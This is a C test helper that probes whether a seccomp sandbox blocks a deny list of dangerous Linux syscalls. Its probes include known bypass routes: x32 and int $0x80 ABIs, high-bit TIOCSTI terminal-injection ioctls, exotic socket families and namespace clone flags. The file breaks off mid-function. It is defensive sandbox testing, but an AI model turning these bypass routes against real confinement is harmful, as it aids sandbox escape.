/*
 * probe: a static helper for the hostile battery (SECURITY.md section 5).
 *
 * Every sub-command makes raw syscalls, mostly with invalid pointers and
 * fds (the technique of containers/bubblewrap:tests/try-syscall.c), so a
 * call that does reach the kernel fails with EFAULT/EBADF/EINVAL and has no
 * side effect, while a call stopped by a seccomp filter fails with EPERM or
 * ENOSYS.  Results are printed one JSON object per line:
 *
 *   {"group":"syscalls","name":"keyctl","ret":-1,"errno":14,"err":"EFAULT"}
 *
 * Cases that may be killed (foreign ABIs, clone) run in a forked child and
 * add "completed" (the child got to report), "exit" and "signal".
 *
 * The same binary runs unconfined on the host (the control run) and inside
 * the box; the pytest battery compares the two.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <inttypes.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/eventfd.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#include <linux/capability.h>
#include <linux/filter.h>
#include <linux/netlink.h>
#include <linux/sched.h>
#include <linux/seccomp.h>

#define BAD ((long)1) /* an invalid user pointer: EFAULT when dereferenced */
#define X32_BIT 0x40000000L

#ifndef SYS_statmount
#define SYS_statmount 457
#endif
#ifndef SYS_listmount
#define SYS_listmount 458
#endif
#ifndef SYS_lsm_get_self_attr
#define SYS_lsm_get_self_attr 459
#endif
#ifndef SYS_lsm_list_modules
#define SYS_lsm_list_modules 461
#endif
#ifndef SYS_open_tree_attr
#define SYS_open_tree_attr 467
#endif
#ifndef SYS_set_mempolicy_home_node
#define SYS_set_mempolicy_home_node 450
#endif
#ifndef SYS_quotactl_fd
#define SYS_quotactl_fd 443
#endif
#ifndef TIOCLINUX
#define TIOCLINUX 0x541C
#endif
#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif
#ifndef AF_ALG
#define AF_ALG 38
#endif
#ifndef AF_RDS
#define AF_RDS 21
#endif
#ifndef AF_TIPC
#define AF_TIPC 30
#endif
#ifndef AF_XDP
#define AF_XDP 44
#endif
#ifndef AF_KCM
#define AF_KCM 41
#endif
#ifndef AF_QIPCRTR
#define AF_QIPCRTR 42
#endif
#ifndef AF_SMC
#define AF_SMC 43
#endif
#ifndef AF_MCTP
#define AF_MCTP 45
#endif
#ifndef CLONE_NEWTIME
#define CLONE_NEWTIME 0x00000080
#endif
#ifndef SECCOMP_FILTER_FLAG_NEW_LISTENER
#define SECCOMP_FILTER_FLAG_NEW_LISTENER (1UL << 3)
#endif
#ifndef PR_CAP_AMBIENT
#define PR_CAP_AMBIENT 47
#define PR_CAP_AMBIENT_RAISE 2
#endif

/* ---------------------------------------------------------------- output */

static void jstr(const char *s)
{
	const unsigned char *p = (const unsigned char *)s;

	putchar('"');
	for (; *p; p++) {
		if (*p == '"' || *p == '\\')
			printf("\\%c", *p);
		else if (*p < 0x20 || *p >= 0x7f)
			printf("\\u%04x", *p);
		else
			putchar(*p);
	}
	putchar('"');
}

static const char *ename(int e)
{
	const char *n = strerrorname_np(e);

	return n ? n : "E?";
}

static void begin(const char *group, const char *name)
{
	printf("{\"group\":");
	jstr(group);
	printf(",\"name\":");
	jstr(name);
}

static void result(long ret, int err)
{
	if (ret == -1)
		printf(",\"ret\":-1,\"errno\":%d,\"err\":\"%s\"", err, ename(err));
	else
		printf(",\"ret\":%ld,\"errno\":0,\"err\":\"\"", ret);
}

static void end(void)
{
	printf("}\n");
	fflush(stdout);
}

static void emit(const char *group, const char *name, long ret, int err)
{
	begin(group, name);
	result(ret, err);
	end();
}

/* Kernel-style return (-errno) to libc style (-1, errno). */
static long unraw(long r, int *err)
{
	if (r < 0 && r > -4096) {
		*err = (int)-r;
		return -1;
	}
	*err = 0;
	return r;
}

/* ------------------------------------------------------- forked children */

struct outcome {
	long ret;
	long err;
};

typedef long (*case_fn)(const void *arg, int *err);

/*
 * Run fn in a child.  The child reports (ret, errno) through a pipe and
 * exits 0; if it is killed first (SIGSYS from a seccomp kill action) the
 * record says completed:false and which signal.
 */
static void forked(const char *group, const char *name, case_fn fn, const void *arg)
{
	int p[2];
	struct outcome o = { 0, 0 };
	ssize_t n;
	int st = 0;
	pid_t pid;

	if (pipe(p) < 0) {
		emit(group, name, -1, errno);
		return;
	}
	fflush(stdout);
	pid = fork();
	if (pid < 0) {
		int e = errno;

		close(p[0]);
		close(p[1]);
		begin(group, name);
		printf(",\"completed\":false,\"fork_errno\":%d", e);
		end();
		return;
	}
	if (pid == 0) {
		int e = 0;
		long r;

		close(p[0]);
		r = fn(arg, &e);
		o.ret = r;
		o.err = e;
		if (write(p[1], &o, sizeof o) != (ssize_t)sizeof o)
			_exit(3);
		_exit(0);
	}
	close(p[1]);
	n = read(p[0], &o, sizeof o);
	close(p[0]);
	while (waitpid(pid, &st, 0) < 0 && errno == EINTR)
		;
	begin(group, name);
	if (n == (ssize_t)sizeof o) {
		printf(",\"completed\":true");
		result(o.ret, (int)o.err);
	} else {
		printf(",\"completed\":false");
	}
	if (WIFEXITED(st))
		printf(",\"exit\":%d,\"signal\":null", WEXITSTATUS(st));
	else if (WIFSIGNALED(st))
		printf(",\"exit\":null,\"signal\":%d,\"signame\":\"%s\"", WTERMSIG(st),
		       sigabbrev_np(WTERMSIG(st)) ? sigabbrev_np(WTERMSIG(st)) : "?");
	end();
}

/* ------------------------------------------------------------- syscalls */

struct sc {
	const char *name;
	long nr;
	long a[6];
};

/*
 * B1: the section-2 deny set, with arguments that make the kernel fail the
 * call without side effects (even as root on the host).
 */
static const struct sc deny_set[] = {
	{ "keyctl", SYS_keyctl, { 6 /* DESCRIBE */, 0, BAD, 16, 0, 0 } },
	{ "add_key", SYS_add_key, { BAD, BAD, BAD, 1, -1, 0 } },
	{ "request_key", SYS_request_key, { BAD, BAD, BAD, 0, 0, 0 } },
	{ "bpf", SYS_bpf, { 0 /* MAP_CREATE */, BAD, 64, 0, 0, 0 } },
	{ "perf_event_open", SYS_perf_event_open, { BAD, 0, -1, -1, 0, 0 } },
	{ "userfaultfd", SYS_userfaultfd, { -1, 0, 0, 0, 0, 0 } },
	{ "kexec_load", SYS_kexec_load, { 0, 0, BAD, -1, 0, 0 } },
	{ "kexec_file_load", SYS_kexec_file_load, { -1, -1, 0, 0, -1, 0 } },
	{ "init_module", SYS_init_module, { BAD, 16, BAD, 0, 0, 0 } },
	{ "finit_module", SYS_finit_module, { -1, BAD, 0, 0, 0, 0 } },
	{ "delete_module", SYS_delete_module, { BAD, 0, 0, 0, 0, 0 } },
	{ "open_by_handle_at", SYS_open_by_handle_at, { -1, BAD, 0, 0, 0, 0 } },
	{ "name_to_handle_at", SYS_name_to_handle_at, { -1, BAD, BAD, BAD, 0, 0 } },
	{ "iopl", SYS_iopl, { 99, 0, 0, 0, 0, 0 } },
	{ "ioperm", SYS_ioperm, { 0x10000, 1, 0, 0, 0, 0 } },
	{ "swapon", SYS_swapon, { BAD, 0, 0, 0, 0, 0 } },
	{ "swapoff", SYS_swapoff, { BAD, 0, 0, 0, 0, 0 } },
	{ "reboot", SYS_reboot, { 0, 0, 0, 0, 0, 0 } },
	{ "syslog", SYS_syslog, { -1, 0, 0, 0, 0, 0 } },
	{ "acct", SYS_acct, { BAD, 0, 0, 0, 0, 0 } },
	{ "quotactl", SYS_quotactl, { 0, BAD, 0, BAD, 0, 0 } },
	{ "lookup_dcookie", SYS_lookup_dcookie, { 0, BAD, 16, 0, 0, 0 } },
	{ "settimeofday", SYS_settimeofday, { BAD, BAD, 0, 0, 0, 0 } },
	{ "clock_settime", SYS_clock_settime, { CLOCK_REALTIME, BAD, 0, 0, 0, 0 } },
	{ "mbind", SYS_mbind, { 0, 4096, 0xffff, 0, 0, 0 } },
	{ "set_mempolicy", SYS_set_mempolicy, { 0xffff, 0, 0, 0, 0, 0 } },
	{ "move_pages", SYS_move_pages, { 0, 1, BAD, 0, BAD, 0 } },
	{ "migrate_pages", SYS_migrate_pages, { 0, 64, BAD, BAD, 0, 0 } },
	{ "fanotify_init", SYS_fanotify_init, { 0xffffffffL, 0, 0, 0, 0, 0 } },
	{ "chroot", SYS_chroot, { BAD, 0, 0, 0, 0, 0 } },
	{ "pivot_root", SYS_pivot_root, { BAD, BAD, 0, 0, 0, 0 } },
	{ "sethostname", SYS_sethostname, { BAD, 4, 0, 0, 0, 0 } },
	{ "setdomainname", SYS_setdomainname, { BAD, 4, 0, 0, 0, 0 } },
	{ "ptrace", SYS_ptrace, { 12 /* GETREGS */, -1, 0, 0, 0, 0 } },
	{ "process_vm_readv", SYS_process_vm_readv, { 0 /* self, patched */, BAD, 1, BAD, 1, 0 } },
	{ "process_vm_writev", SYS_process_vm_writev, { 0 /* self, patched */, BAD, 1, BAD, 1, 0 } },
	{ "kcmp", SYS_kcmp, { 0, 0, 0 /* KCMP_FILE */, -1, -1, 0 } },
	{ "pidfd_getfd", SYS_pidfd_getfd, { -1, 0, 0, 0, 0, 0 } },
	{ "process_madvise", SYS_process_madvise, { -1, BAD, 1, 0, 0, 0 } },
	{ "io_uring_setup", SYS_io_uring_setup, { 1, BAD, 0, 0, 0, 0 } },
	{ "io_uring_enter", SYS_io_uring_enter, { -1, 0, 0, 0, 0, 0 } },
	{ "io_uring_register", SYS_io_uring_register, { -1, 0, 0, 0, 0, 0 } },
	{ "mount", SYS_mount, { BAD, BAD, BAD, 0, BAD, 0 } },
	{ "umount2", SYS_umount2, { BAD, 0, 0, 0, 0, 0 } },
	{ "fsopen", SYS_fsopen, { BAD, 0, 0, 0, 0, 0 } },
	{ "fsconfig", SYS_fsconfig, { -1, 0, 0, 0, 0, 0 } },
	{ "fsmount", SYS_fsmount, { -1, 0, 0, 0, 0, 0 } },
	{ "fspick", SYS_fspick, { -1, BAD, 0, 0, 0, 0 } },
	{ "move_mount", SYS_move_mount, { -1, BAD, -1, BAD, 0, 0 } },
	{ "open_tree", SYS_open_tree, { -1, BAD, 0, 0, 0, 0 } },
	{ "mount_setattr", SYS_mount_setattr, { -1, BAD, 0, BAD, 0, 0 } },
	{ "unshare", SYS_unshare, { -1, 0, 0, 0, 0, 0 } },
	{ "setns", SYS_setns, { -1, 0, 0, 0, 0, 0 } },
	/* the rest of the section-2 list that exists on x86_64 */
	{ "quotactl_fd", SYS_quotactl_fd, { -1, 0, 0, BAD, 0, 0 } },
	{ "set_mempolicy_home_node", SYS_set_mempolicy_home_node, { 0, 4096, 0, 1, 0, 0 } },
	{ "uselib", SYS_uselib, { BAD, 0, 0, 0, 0, 0 } },
	{ "ustat", SYS_ustat, { 0, BAD, 0, 0, 0, 0 } },
	{ "sysfs", SYS_sysfs, { 99, 0, 0, 0, 0, 0 } },
	{ "_sysctl", SYS__sysctl, { BAD, 0, 0, 0, 0, 0 } },
	{ "nfsservctl", SYS_nfsservctl, { 0, 0, 0, 0, 0, 0 } },
};

static long do_sc(const struct sc *s, int *err)
{
	long a[6];
	long r;

	memcpy(a, s->a, sizeof a);
	if (s->nr == SYS_process_vm_readv || s->nr == SYS_process_vm_writev)
		a[0] = getpid();
	errno = 0;
	r = syscall(s->nr, a[0], a[1], a[2], a[3], a[4], a[5]);
	*err = errno;
	return r;
}

static int cmd_syscalls(void)
{
	size_t i;

	for (i = 0; i < sizeof deny_set / sizeof deny_set[0]; i++) {
		int e = 0;
		long r = do_sc(&deny_set[i], &e);

		emit("syscalls", deny_set[i].name, r, e);
	}
	return 0;
}

/* B3: the same calls through the x32 ABI bit. */
static long x32_case(const void *arg, int *err)
{
	const struct sc *s = arg;
	long r;

	errno = 0;
	r = syscall(s->nr | X32_BIT, s->a[0], s->a[1], s->a[2], s->a[3], s->a[4], s->a[5]);
	*err = errno;
	return r;
}

static const struct sc x32_set[] = {
	{ "getpid", SYS_getpid, { 0 } },
	{ "keyctl", SYS_keyctl, { 6, 0, BAD, 16, 0, 0 } },
	{ "unshare", SYS_unshare, { -1, 0, 0, 0, 0, 0 } },
	{ "setns", SYS_setns, { -1, 0, 0, 0, 0, 0 } },
	{ "mount", SYS_mount, { BAD, BAD, BAD, 0, BAD, 0 } },
	{ "bpf", SYS_bpf, { 0, BAD, 64, 0, 0, 0 } },
	{ "add_key", SYS_add_key, { BAD, BAD, BAD, 1, -1, 0 } },
	{ "fsopen", SYS_fsopen, { BAD, 0, 0, 0, 0, 0 } },
	{ "io_uring_setup", SYS_io_uring_setup, { 1, BAD, 0, 0, 0, 0 } },
	{ "chroot", SYS_chroot, { BAD, 0, 0, 0, 0, 0 } },
};

static int cmd_x32(void)
{
	size_t i;

	for (i = 0; i < sizeof x32_set / sizeof x32_set[0]; i++)
		forked("x32", x32_set[i].name, x32_case, &x32_set[i]);
	return 0;
}

/* B4: i386 numbers through int $0x80. */
static long int80(long nr, long a, long b, long c, long d, long e)
{
	long ret;

	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "0"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e)
			 : "memory", "cc", "r8", "r9", "r10", "r11");
	return ret;
}

static long int80_case(const void *arg, int *err)
{
	const struct sc *s = arg;

	return unraw(int80(s->nr, s->a[0], s->a[1], s->a[2], s->a[3], s->a[4]), err);
}

static const struct sc i386_set[] = {
	{ "getpid", 20, { 0 } },
	{ "unshare", 310, { -1, 0, 0, 0, 0, 0 } },
	{ "keyctl", 288, { 6, 0, BAD, 16, 0, 0 } },
	{ "add_key", 286, { BAD, BAD, BAD, 1, -1, 0 } },
	{ "mount", 21, { BAD, BAD, BAD, 0, BAD, 0 } },
	{ "setns", 346, { -1, 0, 0, 0, 0, 0 } },
	{ "ptrace", 26, { 12, -1, 0, 0, 0, 0 } },
	{ "bpf", 357, { 0, BAD, 64, 0, 0, 0 } },
	{ "io_uring_setup", 425, { 1, BAD, 0, 0, 0, 0 } },
	{ "chroot", 61, { BAD, 0, 0, 0, 0, 0 } },
	{ "fsopen", 430, { BAD, 0, 0, 0, 0, 0 } },
	{ "reboot", 88, { 0, 0, 0, 0, 0, 0 } },
	{ "personality", 136, { 0x0400000 /* READ_IMPLIES_EXEC */, 0, 0, 0, 0, 0 } },
	{ "socket_vsock", 359, { AF_VSOCK, SOCK_STREAM, 0, 0, 0, 0 } },
	{ "vm86", 166, { 0, BAD, 0, 0, 0, 0 } },
	{ "stime", 25, { BAD, 0, 0, 0, 0, 0 } },
};

static int cmd_int80(void)
{
	size_t i;

	for (i = 0; i < sizeof i386_set / sizeof i386_set[0]; i++)
		forked("int80", i386_set[i].name, int80_case, &i386_set[i]);
	return 0;
}

/* ---------------------------------------------------------------- clone */

static long clone_flag_case(const void *arg, int *err)
{
	long flags = *(const long *)arg;
	long r;
	int st;

	errno = 0;
	r = syscall(SYS_clone, flags | SIGCHLD, 0L, 0L, 0L, 0L);
	if (r == 0)
		_exit(0);
	*err = errno;
	if (r > 0)
		waitpid((pid_t)r, &st, 0);
	return r > 0 ? 0 : r;
}

static long unshare_case(const void *arg, int *err)
{
	long flags = *(const long *)arg;
	long r;

	errno = 0;
	r = syscall(SYS_unshare, flags);
	*err = errno;
	return r;
}

static long clone3_case(const void *arg, int *err)
{
	struct clone_args ca;
	long r;
	int st;

	memset(&ca, 0, sizeof ca);
	ca.flags = (uint64_t)*(const long *)arg;
	ca.exit_signal = SIGCHLD;
	errno = 0;
	r = syscall(SYS_clone3, &ca, sizeof ca);
	if (r == 0)
		_exit(0);
	*err = errno;
	if (r > 0)
		waitpid((pid_t)r, &st, 0);
	return r > 0 ? 0 : r;
}

static long fork_case(const void *arg, int *err)
{
	pid_t p = fork();
	int st = 0;

	if (p == 0)
		_exit(7);
	if (p < 0) {
		*err = errno;
		return -1;
	}
	waitpid(p, &st, 0);
	return WIFEXITED(st) && WEXITSTATUS(st) == 7 ? 0 : 99;
}

static void *thread_fn(void *arg)
{
	return arg;
}

static long pthread_case(const void *arg, int *err)
{
	pthread_t t;
	void *res = NULL;
	int r = pthread_create(&t, NULL, thread_fn, (void *)0x42);

	if (r != 0) {
		*err = r;
		return -1;
	}
	pthread_join(t, &res);
	return res == (void *)0x42 ? 0 : 99;
}

static const struct {
	const char *name;
	long flag;
} ns_flags[] = {
	{ "CLONE_NEWNS", CLONE_NEWNS },
	{ "CLONE_NEWCGROUP", CLONE_NEWCGROUP },
	{ "CLONE_NEWUTS", CLONE_NEWUTS },
	{ "CLONE_NEWIPC", CLONE_NEWIPC },
	{ "CLONE_NEWUSER", CLONE_NEWUSER },
	{ "CLONE_NEWPID", CLONE_NEWPID },
	{ "CLONE_NEWNET", CLONE_NEWNET },
	{ "CLONE_NEWTIME", CLONE_NEWTIME },
};

static int cmd_clone(void)
{
	char name[64];
	long all = 0, zero = 0, newuser = CLONE_NEWUSER;
	size_t i;

	for (i = 0; i < sizeof ns_flags / sizeof ns_flags[0]; i++) {
		/* CLONE_NEWTIME shares its bit with CSIGNAL in clone(): unshare only */
		if (ns_flags[i].flag != CLONE_NEWTIME) {
			forked("clone", ns_flags[i].name, clone_flag_case, &ns_flags[i].flag);
			all |= ns_flags[i].flag;
		}
		snprintf(name, sizeof name, "unshare_%s", ns_flags[i].name);
		forked("clone", name, unshare_case, &ns_flags[i].flag);
	}
	forked("clone", "clone_all_ns", clone_flag_case, &all);
	all |= CLONE_NEWTIME;
	forked("clone", "unshare_all_ns", unshare_case, &all);
	forked("clone", "clone3", clone3_case, &zero);
	forked("clone", "clone3_CLONE_NEWUSER", clone3_case, &newuser);
	forked("clone", "fork", fork_case, NULL);
	forked("clone", "pthread", pthread_case, NULL);
	return 0;
}

/* ---------------------------------------------------------------- ioctl */

static void ioctl_fd(const char *target, int fd)
{
	char name[96];
	char sti = '#';
	char sub = 6; /* TIOCL_GETSHIFTSTATE: read-only */
	long r;

	snprintf(name, sizeof name, "%s:TIOCSTI", target);
	errno = 0;
	r = syscall(SYS_ioctl, fd, (unsigned long)TIOCSTI, &sti);
	emit("ioctl", name, r, errno);

	snprintf(name, sizeof name, "%s:TIOCSTI_high", target);
	errno = 0;
	r = syscall(SYS_ioctl, fd, (1UL << 32) | (unsigned long)TIOCSTI, &sti);
	emit("ioctl", name, r, errno);

	snprintf(name, sizeof name, "%s:TIOCLINUX", target);
	errno = 0;
	r = syscall(SYS_ioctl, fd, (unsigned long)TIOCLINUX, &sub);
	emit("ioctl", name, r, errno);

	sub = 6;
	snprintf(name, sizeof name, "%s:TIOCLINUX_high", target);
	errno = 0;
	r = syscall(SYS_ioctl, fd, (1UL << 32) | (unsigned long)TIOCLINUX, &sub);
	emit("ioctl", name, r, errno);

	/* a harmless tty ioctl, to show the fd is (or is not) a tty at all */
	{
		struct winsize ws;

		snprintf(name, sizeof name, "%s:TIOCGWINSZ", target);
		errno = 0;
		r = syscall(SYS_ioctl, fd, (unsigned long)TIOCGWINSZ, &ws);
		emit("ioctl", name, r, errno);
	}
}

static void ioctl_path(const char *path, int flags)
{
	int fd = open(path, flags);

	if (fd < 0) {
		char name[96];

		snprintf(name, sizeof name, "%s:open", path);
		emit("ioctl", name, -1, errno);
		return;
	}
	ioctl_fd(path, fd);
	close(fd);
}

static int cmd_ioctl(int argc, char **argv)
{
	int std = argc > 2 && (strcmp(argv[2], "std") == 0 || strcmp(argv[2], "vt") == 0);
	int vt = argc > 2 && strcmp(argv[2], "vt") == 0;
	int m;

	/* a pty of our own: the control shows TIOCSTI really injects there */
	m = posix_openpt(O_RDWR | O_NOCTTY);
	if (m < 0) {
		emit("ioctl", "ptmx:open", -1, errno);
	} else if (grantpt(m) < 0 || unlockpt(m) < 0) {
		emit("ioctl", "ptmx:unlock", -1, errno);
		close(m);
	} else {
		const char *sn = ptsname(m);
		int s = sn ? open(sn, O_RDWR | O_NOCTTY) : -1;

		if (s < 0) {
			emit("ioctl", "pts:open", -1, errno);
		} else {
			ioctl_fd("pts", s);
			close(s);
		}
		close(m);
	}
	ioctl_path("/dev/null", O_RDONLY);
	if (std) {
		ioctl_fd("fd0", 0);
		ioctl_fd("fd1", 1);
		ioctl_fd("fd2", 2);
		ioctl_path("/dev/tty", O_RDWR | O_NOCTTY);
	}
	/* only inside the box: on the host these are the real console */
	if (vt) {
		ioctl_path("/dev/tty0", O_RDWR | O_NOCTTY);
		ioctl_path("/dev/tty1", O_RDWR | O_NOCTTY);
		ioctl_path("/dev/console", O_RDWR | O_NOCTTY);
	}
	return 0;
}

/* ---------------------------------------------------------- personality */

static long personality_case(const void *arg, int *err)
{
	long v = *(const long *)arg;
	long r;

	errno = 0;
	r = syscall(SYS_personality, v);
	*err = errno;
	return r;
}

static int cmd_personality(void)
{
	static const struct {
		const char *name;
		long v;
	} p[] = {
		{ "PER_BSD", 0x0006 },
		{ "READ_IMPLIES_EXEC", 0x0400000 },
		{ "ADDR_NO_RANDOMIZE", 0x0040000 },
		{ "0x0", 0x0 },
		{ "0x8", 0x8 },
		{ "0x20000", 0x20000 },
		{ "0x20008", 0x20008 },
		{ "0xffffffff", 0xffffffffL },
	};
	size_t i;

	for (i = 0; i < sizeof p / sizeof p[0]; i++)
		forked("personality", p[i].name, personality_case, &p[i].v);
	return 0;
}

/* -------------------------------------------------------------- sockets */

static int cmd_sockets(void)
{
	static const struct {
		const char *name;
		int dom, type, proto;
	} s[] = {
		{ "AF_UNIX", AF_UNIX, SOCK_STREAM, 0 },
		{ "AF_INET", AF_INET, SOCK_STREAM, 0 },
		{ "AF_INET6", AF_INET6, SOCK_STREAM, 0 },
		{ "AF_NETLINK/ROUTE", AF_NETLINK, SOCK_RAW, NETLINK_ROUTE },
		{ "AF_VSOCK", AF_VSOCK, SOCK_STREAM, 0 },
		{ "AF_VSOCK/DGRAM", AF_VSOCK, SOCK_DGRAM, 0 },
		{ "AF_PACKET/RAW", AF_PACKET, SOCK_RAW, 0x0300 /* htons(ETH_P_ALL) */ },
		{ "AF_PACKET/DGRAM", AF_PACKET, SOCK_DGRAM, 0x0300 },
		{ "AF_INET/RAW/ICMP", AF_INET, SOCK_RAW, 1 },
		{ "AF_INET6/RAW/ICMPV6", AF_INET6, SOCK_RAW, 58 },
		{ "AF_INET/PACKET", AF_INET, SOCK_PACKET, 0x0300 },
		{ "AF_NETLINK/NETFILTER", AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER },
		{ "AF_NETLINK/XFRM", AF_NETLINK, SOCK_RAW, NETLINK_XFRM },
		{ "AF_NETLINK/AUDIT", AF_NETLINK, SOCK_RAW, NETLINK_AUDIT },
		{ "AF_NETLINK/KOBJECT_UEVENT", AF_NETLINK, SOCK_RAW, NETLINK_KOBJECT_UEVENT },
		{ "AF_NETLINK/GENERIC", AF_NETLINK, SOCK_RAW, NETLINK_GENERIC },
		{ "AF_ALG", AF_ALG, SOCK_SEQPACKET, 0 },
		{ "AF_RDS", AF_RDS, SOCK_SEQPACKET, 0 },
		{ "AF_TIPC", AF_TIPC, SOCK_RDM, 0 },
		{ "AF_KEY", AF_KEY, SOCK_RAW, 2 },
		{ "AF_BLUETOOTH", AF_BLUETOOTH, SOCK_RAW, 0 },
		{ "AF_CAN", AF_CAN, SOCK_RAW, 1 },
		{ "AF_X25", AF_X25, SOCK_SEQPACKET, 0 },
		{ "AF_AX25", AF_AX25, SOCK_SEQPACKET, 0 },
		{ "AF_APPLETALK", AF_APPLETALK, SOCK_DGRAM, 0 },
		{ "AF_LLC", AF_LLC, SOCK_DGRAM, 0 },
		{ "AF_NFC", AF_NFC, SOCK_SEQPACKET, 0 },
		{ "AF_XDP", AF_XDP, SOCK_RAW, 0 },
		{ "AF_KCM", AF_KCM, SOCK_DGRAM, 0 },
		{ "AF_QIPCRTR", AF_QIPCRTR, SOCK_DGRAM, 0 },
		{ "AF_SMC", AF_SMC, SOCK_STREAM, 0 },
		{ "AF_MCTP", AF_MCTP, SOCK_DGRAM, 0 },
		{ "AF_PPPOX", AF_PPPOX, SOCK_STREAM, 0 },
		{ "AF_ATMPVC", AF_ATMPVC, SOCK_DGRAM, 0 },
		{ "AF_IEEE802154", AF_IEEE802154, SOCK_RAW, 0 },
		{ "AF_PHONET", AF_PHONET, SOCK_DGRAM, 0 },
		{ "AF_CAIF", AF_CAIF, SOCK_SEQPACKET, 0 },
		{ "AF_RXRPC", AF_RXRPC, SOCK_DGRAM, 2 },
		{ "AF_ISDN", AF_ISDN, SOCK_RAW, 0 },
		{ "AF_DECnet", AF_DECnet, SOCK_SEQPACKET, 0 },
	};
	size_t i;

	for (i = 0; i < sizeof s / sizeof s[0]; i++) {
		int fd;

		errno = 0;
		fd = (int)syscall(SYS_socket, s[i].dom, s[i].type, s[i].proto);
		emit("sockets", s[i].name, fd, errno);
		if (fd >= 0)
			close(fd);
	}
	return 0;
}

/* --------------------------------------------------------------- highnr */

static long native_case(const void *arg, int *err)
{
	const struct sc *s = arg;
	long r;

	errno = 0;
	r = syscall(s->nr, s->a[0], s->a[1], s->a[2], s->a[3], s->a[4], s->a[5]);
	*err = errno;
	return r;
}

static int cmd_highnr(void)
{
	static const struct sc h[] = {
		{ "statmount", SYS_statmount, { BAD, BAD, 64, 0, 0, 0 } },
		{ "listmount", SYS_listmount, { BAD, BAD, 1, 0, 0, 0 } },
		{ "lsm_get_self_attr", SYS_lsm_get_self_attr, { 100, BAD, BAD, 0, 0, 0 } },
		{ "lsm_list_modules", SYS_lsm_list_modules, { BAD, BAD, 0, 0, 0, 0 } },
		{ "open_tree_attr", SYS_open_tree_attr, { -1, BAD, 0, BAD, 0, 0 } },
		{ "nr_470", 470, { -1, BAD, BAD, 0, 0, 0 } },
		{ "nr_500", 500, { -1, BAD, BAD, 0, 0, 0 } },
		{ "nr_1000", 1000, { -1, BAD, BAD, 0, 0, 0 } },
		{ "nr_4095", 4095, { -1, BAD, BAD, 0, 0, 0 } },
		{ "nr_0x3fffffff", 0x3fffffffL, { -1, BAD, BAD, 0, 0, 0 } },
	};
	size_t i;

	for (i = 0; i < sizeof h / sizeof h[0]; i++)
		forked("highnr", h[i].name, native_case, &h[i]);
	return 0;
}

/* --------------------------------------------------------------- status */

static const char *const status_fields[] = {
	"Name", "Pid", "Tgid", "NSpid", "Uid", "Gid", "Groups", "CapInh", "CapPrm",
	"CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp", "Seccomp_filters",
};

static void print_file_json(const char *key, const char *path)
{
	char buf[4096];
	int fd = open(path, O_RDONLY);
	ssize_t n = -1;

	printf(",\"%s\":", key);
	if (fd >= 0) {
		n = read(fd, buf, sizeof buf - 1);
		close(fd);
	}
	if (n < 0) {
		printf("null");
		return;
	}
	buf[n] = 0;
	jstr(buf);
}

static void print_status_fields(const char *path)
{
	char line[512];
	FILE *f = fopen(path, "r");
	int first = 1;

	printf(",\"fields\":{");
	if (f) {
		while (fgets(line, sizeof line, f)) {
			char *colon = strchr(line, ':');
			char *v;
			size_t i;

			if (!colon)
				continue;
			*colon = 0;
			for (i = 0; i < sizeof status_fields / sizeof status_fields[0]; i++)
				if (strcmp(line, status_fields[i]) == 0)
					break;
			if (i == sizeof status_fields / sizeof status_fields[0])
				continue;
			v = colon + 1;
			while (*v == ' ' || *v == '\t')
				v++;
			v[strcspn(v, "\n")] = 0;
			printf("%s", first ? "" : ",");
			first = 0;
			jstr(line);
			putchar(':');
			jstr(v);
		}
		fclose(f);
	}
	printf("}");
}

static int cmd_status(void)
{
	begin("status", "self");
	printf(",\"uid\":%u,\"euid\":%u,\"gid\":%u,\"egid\":%u", getuid(), geteuid(), getgid(), getegid());
	print_status_fields("/proc/self/status");
	print_file_json("uid_map", "/proc/self/uid_map");
	print_file_json("gid_map", "/proc/self/gid_map");
	print_file_json("setgroups", "/proc/self/setgroups");
	printf(",\"no_new_privs\":%d", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
	printf(",\"seccomp_mode\":%d", prctl(PR_GET_SECCOMP, 0, 0, 0, 0));
	end();
	return 0;
}

static pthread_mutex_t out_lock = PTHREAD_MUTEX_INITIALIZER;
static pthread_barrier_t thr_barrier;
static unsigned thr_sleep;

static void *status_thread(void *arg)
{
	char name[32];

	snprintf(name, sizeof name, "thread%ld", (long)(intptr_t)arg);
	pthread_mutex_lock(&out_lock);
	begin("threads", name);
	printf(",\"tid\":%ld", (long)syscall(SYS_gettid));
	print_status_fields("/proc/thread-self/status");
	end();
	pthread_mutex_unlock(&out_lock);
	pthread_barrier_wait(&thr_barrier);
	sleep(thr_sleep);
	return NULL;
}

/* threads N SECS: N threads each report their own status, then linger */
static int cmd_threads(int argc, char **argv)
{
	long n = argc > 2 ? strtol(argv[2], NULL, 10) : 50;
	long i, started = 0;
	pthread_t *t;

	thr_sleep = argc > 3 ? (unsigned)strtoul(argv[3], NULL, 10) : 0;
	if (n < 1 || n > 1000)
		n = 50;
	t = calloc((size_t)n, sizeof *t);
	if (!t)
		return 1;
	pthread_barrier_init(&thr_barrier, NULL, (unsigned)n + 1);
	for (i = 0; i < n; i++) {
		int r = pthread_create(&t[i], NULL, status_thread, (void *)(intptr_t)i);

		if (r != 0) {
			pthread_mutex_lock(&out_lock);
			emit("threads", "create", -1, r);
			pthread_mutex_unlock(&out_lock);
			return 1;
		}
		started++;
	}
	pthread_barrier_wait(&thr_barrier);
	pthread_mutex_lock(&out_lock);
	begin("threads", "ready");
	printf(",\"count\":%ld", started);
	end();
	pthread_mutex_unlock(&out_lock);
	for (i = 0; i < started; i++)
		pthread_join(t[i], NULL);
	free(t);
	return 0;
}

/* ------------------------------------------------------------------ fds */

static long fchdir_case(const void *arg, int *err)
{
	int fd = *(const int *)arg;
	char cwd[4096];

	if (fchdir(fd) < 0) {
